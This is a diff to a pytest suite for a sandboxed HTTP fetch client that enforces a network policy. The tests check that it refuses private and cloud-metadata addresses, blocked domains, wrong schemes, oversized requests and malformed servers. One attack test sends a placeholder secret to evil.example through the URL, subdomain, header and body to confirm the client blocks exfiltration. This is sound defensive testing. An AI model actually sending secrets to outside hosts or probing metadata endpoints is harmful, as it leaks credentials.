@@ -6,17 +6,13 @@ import ssl
 import threading
 from collections.abc import Callable
 
-import httpcore
 import pytest
 
 from sandbox_kernel.errors import FetchError
 from sandbox_kernel.net.audit import AuditRecord
 from sandbox_kernel.net.fetch_policy import FetchPolicy
-from sandbox_kernel.net.resolve import LOOKUPS, Pinned
-from sandbox_kernel.net.safe_client import FetchRequest, PinnedBackend, SafeClient, verifying_context
-from sandbox_kernel.net.targets import parse_url
-
-PUBLIC = FetchPolicy(allow_all_public=True)
+from sandbox_kernel.net.resolve import LOOKUPS, verifying_context
+from sandbox_kernel.net.safe_client import FetchRequest, SafeClient
 
 
 def refused(client: SafeClient, request: FetchRequest | str) -> str:
@@ -30,52 +26,36 @@ def client(site, names) -> SafeClient:
     return SafeClient(site.policy(), names)
 
 
-# What the policy refuses.
-
-
-def test_rejects_private_ip_direct():
-    assert refused(SafeClient(PUBLIC), "http://127.0.0.1/") == "private_ip_blocked"
-
-
-def test_rejects_metadata_ip():
-    assert refused(SafeClient(PUBLIC), "http://169.254.169.254/latest/meta-data/") == "private_ip_blocked"
-
-
-def test_rejects_blocked_domain(names):
-    policy = FetchPolicy(allow_all_public=True, blocked_domains=("evil.example",))
-    assert refused(SafeClient(policy, names), "https://evil.example/") == "domain_blocked"
-    assert names.asked == []
-
-
-def test_rejects_domain_not_in_allowlist(client: SafeClient, names):
-    assert refused(client, "https://other.example/") == "domain_not_allowed"
-    assert names.asked == []
-    assert [violation.remedy for violation in client.violations] == ["--allow-net other.example:443"]
-
-
-def test_rejects_disallowed_method(client: SafeClient, site):
-    assert refused(client, FetchRequest(url=site.url(), method="TRACE")) == "method_not_allowed"
-    assert site.seen == []
-
-
-def test_rejects_ftp_scheme():
-    assert refused(SafeClient(PUBLIC), "ftp://example.org/") == "scheme_not_allowed"
-
-
-def test_rejects_oversized_request_body(site, names):
-    client = SafeClient(site.policy(max_request_body_bytes=10), names)
-    assert refused(client, FetchRequest(url=site.url(), method="POST", body=b"x" * 11)) == "request_body_too_large"
-    assert site.seen == []
+@pytest.mark.parametrize(
+    ("request_", "rule"),
+    [
+        ("http://10.0.0.1/", "private_ip_blocked"),
+        ("http://169.254.169.254/latest/meta-data/", "private_ip_blocked"),
+        ("https://evil.example/", "domain_blocked"),
+        ("https://other.example/", "domain_not_allowed"),
+        ("ftp://example.org/", "scheme_not_allowed"),
+        ({"method": "TRACE"}, "method_not_allowed"),
+        ({"method": "POST", "body": b"x" * 11}, "request_body_too_large"),
+    ],
+)
+def test_what_the_policy_refuses_is_neither_resolved_nor_sent(site, names, request_, rule: str):
+    client = SafeClient(site.policy(max_request_body_bytes=10, blocked_domains=("evil.example",)), names)
+    asked = request_ if isinstance(request_, str) else FetchRequest(url=site.url(), **request_)
+    assert refused(client, asked) == rule
+    assert [violation.rule for violation in client.violations] == [rule]
+    assert names.asked == [] and site.seen == []
 
 
 # What is fetched from a loopback server.
 
 
-def test_an_allowed_url_is_fetched(client: SafeClient, site):
-    response = client.fetch(site.url())
-    assert (response.status, response.ok, response.body, response.text) == (200, True, b"hello", "hello")
+def test_an_allowed_url_is_fetched_byte_by_byte(client: SafeClient, site):
+    body = bytes(range(256)) * 100
+    site.routes["/b"] = site.reply(200, body, "Set-Cookie: a=1", "Set-Cookie: b=2", "Content-Type: text/plain")
+    response = client.fetch(site.url("/b"))
+    assert (response.status, response.ok, response.body, response.url) == (200, True, body, site.url("/b"))
     assert response.header("content-type") == "text/plain"
-    assert response.url == site.url()
+    assert [value for name, value in response.headers if name.lower() == "set-cookie"] == ["a=1", "b=2"]
 
 
 def test_post_sends_its_body_and_headers(client: SafeClient, site):
@@ -94,18 +74,6 @@ def test_every_final_status_is_a_response(client: SafeClient, site, status: int)
     response = client.fetch(site.url("/s"))
     assert response.status == status
     assert response.ok == (status < 300)
-
-
-def test_repeated_response_headers_arrive_apart(client: SafeClient, site):
-    site.routes["/c"] = site.reply(200, b"", "Set-Cookie: a=1", "Set-Cookie: b=2")
-    values = [value for name, value in client.fetch(site.url("/c")).headers if name.lower() == "set-cookie"]
-    assert values == ["a=1", "b=2"]
-
-
-def test_a_binary_body_arrives_intact(client: SafeClient, site):
-    body = bytes(range(256)) * 100
-    site.routes["/b"] = site.reply(200, body)
-    assert client.fetch(site.url("/b")).body == body
 
 
 def test_afetch_runs_many_at_once(site, names):
@@ -197,20 +165,10 @@ def test_each_hop_counts_against_the_rate(site, names):
     assert len(site.seen) == 2
 
 
-def test_the_time_limit_is_for_all_hops_together(site, names):
-    gate = threading.Event()
-
-    def slow(seen: object) -> bytes:
-        gate.wait(20)
-        return site.reply(200, b"late")
-
-    site.routes["/hop"] = site.reply(302, b"", "Location: /slow")
-    site.routes["/slow"] = slow
+def test_the_time_limit_is_for_all_hops_together(site, names, held):
+    site.routes["/hop"] = site.reply(302, b"", "Location: /hold")
     client = SafeClient(site.policy(request_timeout_s=0.3), names)
-    try:
-        assert refused(client, site.url("/hop")) == "request_timeout"
-    finally:
-        gate.set()
+    assert refused(client, site.url("/hop")) == "request_timeout"
 
 
 def test_a_server_that_drips_bytes_for_ever_meets_the_total_time(start_server, site, names):
@@ -351,7 +309,9 @@ def test_as_many_redirects_as_allowed_are_followed(site, names):
     assert SafeClient(site.policy(max_redirects=3), names).fetch(site.url("/0")).body == b"end"
 
 
-def test_too_many_at_once_are_refused_and_not_queued(site, names):
+@pytest.fixture
+def held(site):
+    """An answer that waits for the end of the test, and what tells that it was asked for."""
     gate, arrived = threading.Event(), threading.Event()
 
     def hold(seen: object) -> bytes:
@@ -360,41 +320,25 @@ def test_too_many_at_once_are_refused_and_not_queued(site, names):
         return site.reply(200, b"ok")
 
     site.routes["/hold"] = hold
-    client = SafeClient(site.policy(max_concurrent=1), names)
-    first = threading.Thread(target=client.fetch, args=(site.url("/hold"),))
-    first.start()
-    try:
-        assert arrived.wait(20)
-        assert refused(client, site.url()) == "rate_limit_exceeded"
-    finally:
-        gate.set()
-        first.join(20)
-    assert client.fetch(site.url()).ok
+    yield arrived
+    gate.set()
 
 
-def test_a_cancelled_fetch_gives_its_place_back(site, names):
-    gate, arrived = threading.Event(), threading.Event()
-
-    def hold(seen: object) -> bytes:
-        arrived.set()
-        gate.wait(20)
-        return site.reply()
-
-    site.routes["/hold"] = hold
+def test_too_many_at_once_are_refused_and_not_queued_and_a_cancelled_fetch_gives_its_place_back(site, names, held):
     client = SafeClient(site.policy(max_concurrent=1), names)
 
     async def main() -> bytes:
         task = asyncio.create_task(client.afetch(site.url("/hold")))
-        await asyncio.to_thread(arrived.wait, 20)
+        await asyncio.to_thread(held.wait, 20)
+        with pytest.raises(FetchError) as caught:
+            await client.afetch(site.url())
+        assert caught.value.rule == "rate_limit_exceeded"
         task.cancel()
         with pytest.raises(asyncio.CancelledError):
             await task
         return (await client.afetch(site.url())).body
 
-    try:
-        assert asyncio.run(main()) == b"hello"
-    finally:
-        gate.set()
+    assert asyncio.run(main()) == b"hello"
 
 
 def test_the_next_address_is_tried_when_the_first_does_not_answer(site, names):
@@ -404,16 +348,13 @@ def test_the_next_address_is_tried_when_the_first_does_not_answer(site, names):
 
 
 @pytest.mark.parametrize(
-    "garbage", [b"", b"SSH-2.0-OpenSSH\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nshort", b"\x00" * 50]
-)
+    "garbage",
+    [b"", b"SSH-2.0-OpenSSH\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nshort", b"\x00" * 50,
+     b"HTTP/1.1 200 OK\r\n" + b"X-Filler: aaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n" * 10_000],
+)  # fmt: skip
 def test_a_server_that_speaks_nonsense_is_an_http_error(client: SafeClient, site, garbage: bytes):
     site.routes["/bad"] = garbage
     assert refused(client, site.url("/bad")) == "http_error"
-
-
-def test_a_head_without_end_is_an_http_error(client: SafeClient, site):
-    site.routes["/head"] = b"HTTP/1.1 200 OK\r\n" + b"X-Filler: aaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n" * 10_000
-    assert refused(client, site.url("/head")) == "http_error"
 
 
 def test_tls_goes_to_the_pinned_address_with_the_name_in_it(tls_site, names, authority):
@@ -448,15 +389,14 @@ def test_nothing_is_added_that_could_be_a_secret(client: SafeClient, site, monke
 
 @pytest.mark.attack("N11", "network")
 def test_a_placeholder_reaches_no_host_that_is_not_allowed_in_url_header_or_body(client: SafeClient, site, names):
-    for request in (
-        FetchRequest(url="https://evil.example/?t=PLACEHOLDER"),
-        FetchRequest(url="https://PLACEHOLDER.evil.example/"),
-        FetchRequest(url="https://evil.example/", headers={"Authorization": "PLACEHOLDER"}),
-        FetchRequest(url="https://evil.example/", method="POST", body=b"PLACEHOLDER"),
+    for given in (
+        {"url": "https://evil.example/?t=PLACEHOLDER"},
+        {"url": "https://PLACEHOLDER.evil.example/"},
+        {"url": "https://evil.example/", "headers": {"Authorization": "PLACEHOLDER"}},
+        {"url": "https://evil.example/", "method": "POST", "body": b"PLACEHOLDER"},
     ):
-        assert refused(client, request) == "domain_not_allowed"
-    assert names.asked == []
-    assert site.seen == []
+        assert refused(client, FetchRequest(**given)) == "domain_not_allowed"
+    assert names.asked == [] and site.seen == []
 
 
 def test_names_that_one_client_waits_for_do_not_hold_up_the_lookups_of_others(site, names):
@@ -481,19 +421,6 @@ def test_names_that_one_client_waits_for_do_not_hold_up_the_lookups_of_others(si
             await asyncio.gather(*waiting, return_exceptions=True)
 
     assert asyncio.run(main()) == b"hello"
-
-
-@pytest.mark.parametrize(("host", "port"), [("other.test", 80), ("site.test", 81), ("127.0.0.1", 80)])
-def test_only_the_checked_target_can_be_connected_to(host: str, port: int):
-    backend = PinnedBackend(Pinned(parse_url("http://site.test/"), ("127.0.0.1",)))
-    with pytest.raises(httpcore.ConnectError, match="not the checked target"):
-        asyncio.run(backend.connect_tcp(host, port))
-
-
-def test_unix_sockets_are_never_connected_to():
-    backend = PinnedBackend(Pinned(parse_url("http://site.test/"), ("127.0.0.1",)))
-    with pytest.raises(httpcore.ConnectError):
-        asyncio.run(backend.connect_unix_socket("/run/docker.sock"))
 
 
 def test_tls_verifies_certificates_and_names():
